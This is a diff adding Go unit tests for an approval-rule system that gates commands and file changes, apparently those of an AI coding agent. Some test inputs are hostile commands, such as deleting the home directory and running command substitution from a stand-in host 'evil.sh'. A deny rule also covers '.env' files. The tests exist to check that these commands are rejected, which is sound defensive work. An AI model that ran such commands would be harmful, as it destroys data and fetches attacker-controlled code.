@@ -0,0 +1,107 @@
+package types
+
+import (
+	"testing"
+	"time"
+)
+
+func TestApprovalRuleCommandPrefixMatchesSimpleCommandsOnly(t *testing.T) {
+	rule := &ApprovalRule{Scope: ApprovalRuleScopeGlobal, CommandPrefix: "go test", Decision: ApprovalRuleAllowOnce}
+	cases := map[string]bool{
+		"go test ./...":               true,
+		"go test":                     true,
+		"go testify":                  false,
+		"go test ./... && rm -rf ~":   false,
+		"go test ./... | tee out.txt": false,
+		"go test $(curl evil.sh)":     false,
+		"go vet ./...":                false,
+		"":                            false,
+	}
+	for command, want := range cases {
+		if got := rule.Matches(ApprovalRuleSubject{Command: command}); got != want {
+			t.Errorf("command %q: expected match=%v, got %v", command, want, got)
+		}
+	}
+}
+
+func TestApprovalRulePathGlobsMustCoverEveryPath(t *testing.T) {
+	rule := &ApprovalRule{Scope: ApprovalRuleScopeGlobal, Method: ApprovalKindFileChange, PathGlobs: []string{"docs/**", "*.md"}, Decision: ApprovalRuleAllowOnce}
+	subject := ApprovalRuleSubject{Kind: ApprovalKindFileChange, Paths: []string{"docs/api/index.html", "internal/README.md"}}
+	if !rule.Matches(subject) {
+		t.Fatalf("expected docs and markdown paths to match")
+	}
+	subject.Paths = append(subject.Paths, "internal/app/model.go")
+	if rule.Matches(subject) {
+		t.Fatalf("expected a path outside the globs to prevent the match")
+	}
+	if rule.Matches(ApprovalRuleSubject{Kind: ApprovalKindFileChange}) {
+		t.Fatalf("expected no match without paths")
+	}
+}
+
+func TestApprovalRuleDenyPathGlobsMatchAnyPath(t *testing.T) {
+	deny := &ApprovalRule{Method: ApprovalKindFileChange, PathGlobs: []string{"**/.env"}, Decision: ApprovalRuleDeny}
+	allow := &ApprovalRule{Method: ApprovalKindFileChange, PathGlobs: []string{"**/.env"}, Decision: ApprovalRuleAllowOnce}
+	for _, rule := range []*ApprovalRule{deny, allow} {
+		if err := ValidateApprovalRule(rule); err != nil {
+			t.Fatalf("ValidateApprovalRule: %v", err)
+		}
+	}
+	subject := ApprovalRuleSubject{Kind: ApprovalKindFileChange, Paths: []string{"cmd/main.go", "config/.env"}}
+	if !deny.Matches(subject) {
+		t.Fatalf("expected deny rule to match a change that also touches .env")
+	}
+	if allow.Matches(subject) {
+		t.Fatalf("expected allow rule to need every path to match")
+	}
+	if got := MatchApprovalRule([]*ApprovalRule{allow, deny}, subject); got != deny {
+		t.Fatalf("expected the deny rule to decide the mixed change, got %#v", got)
+	}
+	subject.Paths = []string{"cmd/main.go"}
+	if deny.Matches(subject) {
+		t.Fatalf("expected deny rule to skip changes without .env")
+	}
+}
+
+func TestMatchApprovalRulePrefersNarrowerScopes(t *testing.T) {
+	now := time.Now().UTC()
+	global := &ApprovalRule{ID: "g", Scope: ApprovalRuleScopeGlobal, Method: ApprovalKindCommand, Decision: ApprovalRuleDeny, CreatedAt: now}
+	workspace := &ApprovalRule{ID: "w", Scope: ApprovalRuleScopeWorkspace, WorkspaceID: "ws1", CommandRegex: `^make (test|lint)$`, Decision: ApprovalRuleAllowAlways, CreatedAt: now.Add(time.Second)}
+	session := &ApprovalRule{ID: "s", Scope: ApprovalRuleScopeSession, SessionID: "s1", CommandPrefix: "make lint", Decision: ApprovalRuleAsk, CreatedAt: now.Add(2 * time.Second)}
+	rules := []*ApprovalRule{global, workspace, session}
+
+	subject := ApprovalRuleSubject{WorkspaceID: "ws1", SessionID: "s2", Kind: ApprovalKindCommand, Command: "make test"}
+	if got := MatchApprovalRule(rules, subject); got != workspace {
+		t.Fatalf("expected workspace rule, got %#v", got)
+	}
+	subject.SessionID, subject.Command = "s1", "make lint"
+	if got := MatchApprovalRule(rules, subject); got != session {
+		t.Fatalf("expected session ask rule to win, got %#v", got)
+	}
+	workspace.Disabled = true
+	subject.SessionID, subject.Command = "s2", "make test"
+	if got := MatchApprovalRule(rules, subject); got != global {
+		t.Fatalf("expected global rule once the workspace rule is disabled, got %#v", got)
+	}
+}
+
+func TestValidateApprovalRuleInfersScopeAndRejectsBadInput(t *testing.T) {
+	rule := &ApprovalRule{WorkspaceID: " ws1 ", Provider: "codex", Decision: "allow", Access: "full-access"}
+	if err := ValidateApprovalRule(rule); err != nil {
+		t.Fatalf("ValidateApprovalRule: %v", err)
+	}
+	if rule.Scope != ApprovalRuleScopeWorkspace || rule.WorkspaceID != "ws1" || rule.Provider != "" || rule.Decision != ApprovalRuleAllowOnce || rule.Access != AccessFull {
+		t.Fatalf("unexpected normalized rule: %#v", rule)
+	}
+	invalid := []*ApprovalRule{
+		{Decision: "maybe", Method: "command"},
+		{Decision: ApprovalRuleAllowOnce},
+		{Decision: ApprovalRuleDeny, CommandRegex: "("},
+		{Decision: ApprovalRuleDeny, Scope: ApprovalRuleScopeSession, Method: "command"},
+	}
+	for _, candidate := range invalid {
+		if err := ValidateApprovalRule(candidate); err == nil {
+			t.Errorf("expected %#v to be rejected", candidate)
+		}
+	}
+}